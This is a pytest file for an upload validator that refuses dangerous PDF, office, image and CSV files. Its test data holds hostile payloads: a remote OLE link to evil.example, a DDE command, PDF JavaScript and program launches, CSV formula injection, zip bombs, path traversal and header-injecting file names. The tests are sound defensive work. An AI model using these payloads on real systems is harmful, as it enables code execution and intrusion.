"""What is taken as evidence: judged by content, and refused in words where it could do harm."""

from __future__ import annotations

import contextlib
import io
import random
import struct
import time
import zipfile
import zlib
from collections.abc import Callable

import pytest
from PIL import Image

from s11audit.adapters import zip_members
from s11audit.adapters.uploads import TYPES, check, safe_name
from s11audit.domain.errors import Invalid


def picture(kind: str, size: tuple[int, int] = (20, 10), **given: object) -> bytes:
    written = io.BytesIO()
    Image.new("RGB", size, (200, 30, 40)).save(written, kind, **given)
    return written.getvalue()


PNG = picture("PNG")
JPG = picture("JPEG")
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<</Type/Catalog>>\nendobj\n%%EOF\n"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
MAIN = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}


def office(
    kind: str,
    *extra: str,
    types: str = "<Types/>",
    mimetype: str = "",
    holding: dict[str, bytes] | None = None,
    main: str = "<x/>",
) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        if kind in MAIN:
            archive.writestr("[Content_Types].xml", types)
            archive.writestr(MAIN[kind], main)
        else:
            archive.writestr("mimetype", mimetype or TYPES[kind])
            archive.writestr("content.xml", main)
        for name in extra:
            archive.writestr(name, "x")
        for name, content in (holding or {}).items():
            archive.writestr(name, content)
    return packed.getvalue()


def pdf(body: bytes) -> bytes:
    return PDF.replace(b"<</Type/Catalog>>", b"<</Type/Catalog " + body + b">>")


def packed_pdf(body: bytes) -> bytes:
    """A PDF that has `body` in a packed object stream, as most programs write them."""
    packed = zlib.compress(b"5 0 " + body)
    head = b"9 0 obj\n<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d>>\nstream\n"
    return PDF + head % len(packed) + packed + b"\nendstream\nendobj\n%%EOF\n"


def patched(content: bytes, change: Callable[[bytearray, int], None]) -> bytes:
    """Change the entry of the last member in a ZIP file's list of members."""
    raw = bytearray(content)
    change(raw, raw.rfind(b"PK\x01\x02"))
    return bytes(raw)


def encrypt(raw: bytearray, entry: int) -> None:
    raw[entry + 8] |= 1


def listed_smaller(raw: bytearray, entry: int) -> None:
    raw[entry + 24 : entry + 28] = struct.pack("<I", 10)


def listed_twice(raw: bytearray, entry: int) -> None:
    raw[entry + 42 : entry + 46] = struct.pack("<I", 0)


GOOD = {
    "pdf": PDF,
    "png": PNG,
    "jpg": JPG,
    "txt": "Grüße – a note".encode(),
    "csv": "name,ﬁgure\nA,1\n".encode(),
    **{kind: office(kind) for kind in ("docx", "xlsx", "pptx", "odt", "ods", "odp")},
}


def judge(content: bytes, name: str, most: int = 20 * 1024 * 1024) -> str:
    return check(io.BytesIO(content), name, allowed=TYPES, most_bytes=most)


def test_every_kind_on_the_list_is_taken() -> None:
    assert set(GOOD) == set(TYPES)
    for kind, content in GOOD.items():
        assert judge(content, f"A policy.{kind.upper()}") == TYPES[kind]
    assert judge(JPG, "photo.jpeg") == "image/jpeg"
    assert judge("Café".encode("cp1252"), "old.txt") == "text/plain"
    assert judge(b"\xef\xbb\xbfa,b\n", "with-bom.csv") == "text/csv"


BOMB = office("docx", holding={"word/media/a.bmp": bytes(40 * 1024 * 1024)})
RELATION = (
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/oleObject" Target="mhtml:http://evil.example/x!x" TargetMode="External"/>'
)


@pytest.mark.parametrize(
    ("content", "name", "words"),
    [
        (b"", "empty.pdf", "empty"),
        (b"MZ\x90\x00", "tool.exe", "one of these kinds"),
        (PDF, "policy", "one of these kinds"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "drawing.svg", "one of these kinds"),
        (b"MZ\x90\x00" + bytes(99), "policy.pdf", "not such a file"),
        (b"<html>hello</html>", "photo.png", "not such a file"),
        (JPG, "photo.png", "it seems to be .jpg"),
        (office("docx"), "table.xlsx", "not such a file"),
        (office("odt"), "table.ods", "not such a file"),
        (b"PK\x03\x04broken", "table.xlsx", "not such a file"),
        # office files
        (office("docx", "word/vbaProject.bin"), "letter.docx", "macros"),
        (office("xlsx", types="<x macroEnabled/>"), "table.xlsx", "macros"),
        (office("xlsx", "xl/macrosheets/sheet1.xml"), "table.xlsx", "macros"),
        (office("odt", "Basic/Standard/Module1.xml"), "letter.odt", "macros"),
        (office("odt", main='<a xlink:href="vnd.sun.star.script:x"/>'), "letter.odt", "macros"),
        (office("docx", holding={"word/embeddings/oleObject1.bin": OLE}), "l.docx", "object"),
        (office("docx", holding={"word/media/a.png": b"MZ" + bytes(90)}), "l.docx", "a program"),
        (office("docx", "word/media/run.ps1"), "letter.docx", "a program"),
        (office("xlsx", "xl/activeX/activeX1.xml"), "table.xlsx", "ActiveX"),
        (office("docx", holding={"word/a.xml": PDF, "w.zip": office("docx")}), "l.docx", "packed"),
        (
            office("docx", holding={"word/embeddings/a.docx": office("docx", "x/vbaProject.bin")}),
            "letter.docx",
            "macros",
        ),
        (office("docx", holding={"word/_rels/d.xml.rels": RELATION.encode()}), "l.docx", "links"),
        (office("docx", main="<w:instrText>DDEAUTO c:\\cmd</w:instrText>"), "l.docx", "DDE"),
        (office("xlsx", main="<!DOCTYPE x [<!ENTITY a 'b'>]>"), "t.xlsx", "not such a file"),
        (OLE, "letter.docx", "protected by a password, or is of an old kind"),
        (patched(office("docx"), encrypt), "letter.docx", "protected by a password"),
        (office("odt", main="<manifest:encryption-data/>"), "letter.odt", "password"),
        (BOMB, "letter.docx", "unpacks to far more"),
        (patched(office("docx", main="x" * 9999), listed_smaller), "letter.docx", "far more"),
        (patched(office("docx", "copy.xml"), listed_twice), "letter.docx", "far more"),
        (office("docx", "../../evil.xml"), "letter.docx", "names that no office program"),
        (office("docx", "/etc/passwd"), "letter.docx", "names that no office program"),
        (office("docx", "word/Document.XML"), "letter.docx", "names that no office program"),
        (office("docx") + b"<html>", "letter.docx", "not such a file"),
        (PDF + office("docx"), "letter.docx", "not such a file"),
        # PDF
        (pdf(b"/OpenAction<</S /JavaScript /JS (app.alert(1))>>"), "form.pdf", "a script"),
        (pdf(b"/OpenAction<</S/J#61vaScript/JS 7 0 R>>"), "form.pdf", "a script"),
        (pdf(b"/AA<</O<</S %x\n /Launch/F(cmd.exe)>>>>"), "form.pdf", "start a program"),
        (pdf(b"/Names<</EmbeddedFiles 8 0 R>>"), "form.pdf", "attached within"),
        (packed_pdf(b"<</S/JavaScript/JS(x)>>"), "form.pdf", "a script"),
        (pdf(b"") + b"trailer <</Encrypt 12 0 R>>", "locked.pdf", "protected"),
        (pdf(bytes(5000)) + b"<html><script>x</script>", "page.pdf", "a web page"),
        (b"%PDF-1.4 <html><script>x()</script>" + bytes(9), "page.pdf", "a web page"),
        # pictures
        (JPG[:-40], "photo.jpg", "cut short"),
        (PNG[:-30], "photo.png", "cut short"),
        (PNG + b"more", "photo.png", "something else in the file"),
        (JPG + office("docx"), "photo.jpg", "something else in the file"),
        (JPG + b"<Script>alert(1)</Script>", "photo.jpg", "something else in the file"),
        # texts
        (b"a\x00b", "note.txt", "not such a file"),
        (PNG, "note.txt", "not such a file"),
        (b"\x81\x8d", "note.txt", "not such a file"),
        (b"{\\rtf1 hello}", "note.txt", "not such a file"),
        ("hi".encode("utf-16"), "note.txt", "Save it as text in UTF-8"),
        (b"\n <!DOCTYPE html><p>x", "note.txt", "web page"),
        (b"<?xml version='1.0'?><svg/>", "note.txt", "web page"),
        (b'name,figure\nA,"=HYPERLINK(1)"\n', "figures.csv", "Row 2"),
        (b"a;b\n1;+cmd|' /C calc'!A0\n", "figures.csv", "Row 2"),
    ],
    ids=lambda value: value if isinstance(value, str) else "file",
)
def test_what_is_refused_and_why(content: bytes, name: str, words: str) -> None:
    with pytest.raises(Invalid) as raised:
        judge(content, name)
    assert words in raised.value.problems["file"]


@pytest.mark.parametrize(
    ("content", "name"),
    [
        # The table behind a chart, which Word and PowerPoint keep within the document.
        (office("pptx", holding={"ppt/embeddings/Sheet1.xlsx": office("xlsx")}), "talk.pptx"),
        (office("docx", holding={"word/media/icon.svg": b"<svg/>"}), "letter.docx"),
        (pdf(b"/A<</S/URI/URI(http://example.org/JavaScript)>>"), "links.pdf"),
        (pdf(b"/Title (How /Encrypt works)"), "manual.pdf"),
        (pdf(b"stream Gat/EF9%s<</XFA2;/JavaScripts/EFx"), "coded-as-letters.pdf"),
        (JPG + b"preview" * 900, "phone.jpg"),  # phones write previews after the picture
        (b"a,b\n-5,+44 113 496 0000\n", "figures.csv"),
        (b"5 < 6 and <b>so</b> on", "note.txt"),
    ],
    ids=lambda value: value if isinstance(value, str) else "file",
)
def test_what_ordinary_files_hold_is_let_through(content: bytes, name: str) -> None:
    judge(content, name)


def test_a_bomb_is_refused_before_it_is_inflated(monkeypatch: pytest.MonkeyPatch) -> None:
    """By the listed sizes; where these lie, it is never inflated beyond them."""
    seen: list[int] = []
    real = zlib.decompressobj

    class Counted:
        def __init__(self, *given: int) -> None:
            self.inner = real(*given)

        def decompress(self, *given: object) -> bytes:
            piece: bytes = self.inner.decompress(*given)
            seen.append(len(piece))
            return piece

        def __getattr__(self, name: str) -> object:
            return getattr(self.inner, name)

    monkeypatch.setattr(zip_members.zlib, "decompressobj", Counted)
    with pytest.raises(Invalid):
        judge(BOMB, "letter.docx")
    assert seen == []
    lying = patched(office("docx", main="x" * 30_000_000), listed_smaller)
    lying = lying.replace(b"PK\x01\x02", b"PK\x01\x02")
    with pytest.raises(Invalid, match="far more"):
        judge(lying, "letter.docx")
    assert max(seen) <= zip_members.PIECE and sum(seen) <= 2 * zip_members.PIECE


def hostile() -> dict[str, bytes]:
    """Files that would keep a careless reader busy for minutes."""
    drawn = picture("JPEG", (4000, 4000), progressive=True)
    last = drawn.rindex(b"\xff\xda")
    bars = b"a,b\n" + b"".join(b"+" + b"|" * 120_000 + b",1\n" for _ in range(20))
    relations = b"<Relationship Target='x' " * 400_000
    inner = office("xlsx", holding={"xl/a.xml": b"x" * 20_000_000})
    return {
        "photo.jpg": drawn[:-2] + drawn[last:-2] * 20_000 + b"\xff\xd9",
        "bars.csv": bars,
        "letter.docx": office("docx", holding={"word/_rels/d.xml.rels": relations}),
        "charts.docx": office(
            "docx", holding={f"word/embeddings/{n}.xlsx": inner for n in range(40)}
        ),
        "gaps.pdf": pdf(b"/S " + b"/S %x" * 100_000 + b"/Encrypt " * 100_000),
        "streams.pdf": pdf(b"/ObjStm stream\n" * 30_000),
    }


def test_hostile_files_take_no_longer_than_ordinary_ones() -> None:
    for name, content in hostile().items():
        began = time.process_time()
        with contextlib.suppress(Invalid):
            judge(content, name)
        assert time.process_time() - began < 3, name


def test_a_picture_of_too_many_pixels_is_refused_before_it_is_decoded() -> None:
    head = b"\x89PNG\r\n\x1a\n"
    size = struct.pack(">II", 60_000, 60_000) + b"\x08\x02\x00\x00\x00"
    chunk = struct.pack(">I", 13) + b"IHDR" + size + struct.pack(">I", zlib.crc32(b"IHDR" + size))
    with pytest.raises(Invalid, match="too many pixels"):
        judge(head + chunk + PNG[33:], "large.png")


def test_the_limit_itself_is_taken() -> None:
    assert judge(b"x" * 1024 * 1024, "a.txt", most=1024 * 1024)
    with pytest.raises(Invalid, match="1 MB"):
        judge(b"x" * (1024 * 1024 + 1), "a.txt", most=1024 * 1024)


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\me\\policy.pdf", "policy.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "a Set-Cookie- x.pdf"),
        ('say "hi".pdf', "say -hi-.pdf"),
        ("...", "file"),
        ("Łódź raport.pdf", "Łódź raport.pdf"),
        ("\u202egpj.exe", "gpj.exe"),
    ],
)
def test_names_are_made_safe(name: str, safe: str) -> None:
    assert safe_name(name) == safe


def test_a_long_name_keeps_its_ending() -> None:
    assert safe_name("x" * 400 + ".docx").endswith("x.docx")
    assert len(safe_name("x" * 400 + ".docx")) <= 150


def test_a_damaged_office_file_is_refused_and_never_a_failure() -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types>" + "abc" * 300 + "</Types>")
        archive.writestr("word/document.xml", "<x/>")
        archive.writestr("wörter.xml", "x")
    whole = packed.getvalue()
    chance = random.Random(20)
    for _ in range(3000):
        damaged = bytearray(whole)
        for _each in range(chance.choice((1, 3))):
            damaged[chance.randrange(len(damaged))] = chance.choice((0, 255, 12, 14, 99))
        with contextlib.suppress(Invalid):
            judge(bytes(damaged), "letter.docx")


def test_a_zip_file_of_very_many_members_is_refused_before_it_is_listed() -> None:
    many = bytearray(GOOD["docx"])
    many[-12:-10] = many[-14:-12] = struct.pack("<H", 5001)  # how many members its end promises
    with pytest.raises(Invalid, match="more than 5,000 parts"):
        judge(bytes(many), "letter.docx")


@pytest.mark.parametrize("name", ["é" * 300 + ".pdf", "🙂" * 200 + ".docx", "a." + "x" * 300])
def test_a_long_name_is_cut_to_what_file_systems_take(name: str) -> None:
    safe = safe_name(name)
    assert len(safe) <= 150 and len(safe.encode()) <= 255
    assert safe[-4:] == name[-4:]
